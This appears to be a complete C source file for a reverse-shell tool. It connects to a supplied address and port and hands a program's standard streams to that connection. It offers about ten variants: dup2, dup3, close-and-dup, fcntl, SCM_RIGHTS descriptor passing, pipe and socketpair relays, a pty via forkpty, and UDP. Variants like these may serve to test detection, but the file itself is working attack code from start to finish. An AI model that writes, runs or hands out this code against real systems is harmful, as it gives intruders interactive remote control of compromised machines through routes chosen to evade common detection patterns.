/*
 * Connects out and hands the connection to a program, each time by another descriptor trick.
 * usage: reverse HOW ADDRESS PORT PROGRAM [ARG...]
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pty.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void fail(const char *what) { perror(what); exit(1); }

static int dial(const char *address, int port, int kind) {
    struct sockaddr_in6 v6 = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
    struct sockaddr_in v4 = {.sin_family = AF_INET, .sin_port = htons(port)};
    int six = inet_pton(AF_INET6, address, &v6.sin6_addr) == 1;
    if (!six && inet_pton(AF_INET, address, &v4.sin_addr) != 1) fail("address");
    int fd = socket(six ? AF_INET6 : AF_INET, kind, 0);
    if (fd < 0) fail("socket");
    if (connect(fd, six ? (void *)&v6 : (void *)&v4, six ? sizeof v6 : sizeof v4)) fail("connect");
    return fd;
}

static void run(char **argv) { execv(argv[0], argv); fail("exec"); }

/* Copies between the connection and the shell's descriptors until one side ends. */
static void relay(int net, int from_shell, int to_shell) {
    char buffer[4096];
    struct pollfd fds[2] = {{net, POLLIN, 0}, {from_shell, POLLIN, 0}};
    while (poll(fds, 2, 15000) > 0) {
        for (int i = 0; i < 2; i++) {
            if (!fds[i].revents) continue;
            ssize_t n = read(fds[i].fd, buffer, sizeof buffer);
            if (n <= 0) return;
            if (write(i ? net : to_shell, buffer, n) != n) return;
        }
    }
}

static void child_with(int in, int out, int err, char **argv) {
    pid_t pid = fork();
    if (pid < 0) fail("fork");
    if (pid) return;
    dup2(in, 0); dup2(out, 1); dup2(err, 2);
    for (int fd = 3; fd < 64; fd++) close(fd);
    run(argv);
}

int main(int argc, char **argv) {
    if (argc < 5) return 2;
    const char *how = argv[1], *address = argv[2];
    int port = atoi(argv[3]);
    char **program = argv + 4;
    int is_udp = !strcmp(how, "udp");
    if (!strcmp(how, "late-pipes")) { /* the shell runs before anything is connected */
        int to[2], from[2];
        if (pipe(to) || pipe(from)) fail("pipe");
        child_with(to[0], from[1], from[1], program);
        close(to[0]); close(from[1]);
        usleep(300000);
        relay(dial(address, port, SOCK_STREAM), from[0], to[1]);
        return 0;
    }
    int net = dial(address, port, is_udp ? SOCK_DGRAM : SOCK_STREAM);
    if (is_udp && write(net, "hello\n", 6) != 6) fail("write");
    if (!strcmp(how, "dup2") || is_udp) {
        for (int fd = 0; fd < 3; fd++) dup2(net, fd);
        run(program);
    } else if (!strcmp(how, "dup3")) {
        for (int fd = 0; fd < 3; fd++) dup3(net, fd, 0);
        run(program);
    } else if (!strcmp(how, "close-dup")) { /* the lowest free descriptor is taken: no number is ever named */
        for (int fd = 0; fd < 3; fd++) { close(fd); if (dup(net) != fd) fail("dup"); }
        run(program);
    } else if (!strcmp(how, "fcntl")) {
        for (int fd = 0; fd < 3; fd++) { close(fd); if (fcntl(net, F_DUPFD, fd) != fd) fail("fcntl"); }
        run(program);
    } else if (!strcmp(how, "passed")) { /* connected by one process, used by another: SCM_RIGHTS */
        int pair[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) fail("socketpair");
        pid_t pid = fork();
        char byte = 'x', control[CMSG_SPACE(sizeof(int))] = {0};
        struct iovec iov = {&byte, 1};
        struct msghdr message = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
        if (pid) {
            struct cmsghdr *header = CMSG_FIRSTHDR(&message);
            header->cmsg_level = SOL_SOCKET; header->cmsg_type = SCM_RIGHTS; header->cmsg_len = CMSG_LEN(sizeof(int));
            memcpy(CMSG_DATA(header), &net, sizeof net);
            if (sendmsg(pair[0], &message, 0) != 1) fail("sendmsg");
            close(net);
            waitpid(pid, 0, 0);
            return 0;
        }
        close(net);
        if (recvmsg(pair[1], &message, 0) != 1) fail("recvmsg");
        int got;
        memcpy(&got, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof got);
        for (int fd = 0; fd < 3; fd++) dup2(got, fd);
        run(program);
    } else if (!strcmp(how, "pipes")) {
        int to[2], from[2];
        if (pipe(to) || pipe(from)) fail("pipe");
        child_with(to[0], from[1], from[1], program);
        close(to[0]); close(from[1]);
        relay(net, from[0], to[1]);
    } else if (!strcmp(how, "socketpair")) {
        int pair[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) fail("socketpair");
        child_with(pair[1], pair[1], pair[1], program);
        close(pair[1]);
        relay(net, pair[0], pair[0]);
    } else if (!strcmp(how, "pty")) {
        int master;
        pid_t pid = forkpty(&master, 0, 0, 0);
        if (pid < 0) fail("forkpty");
        if (!pid) { for (int fd = 3; fd < 64; fd++) close(fd); run(program); }
        relay(net, master, master);
    } else return 2;
    return 0;
}
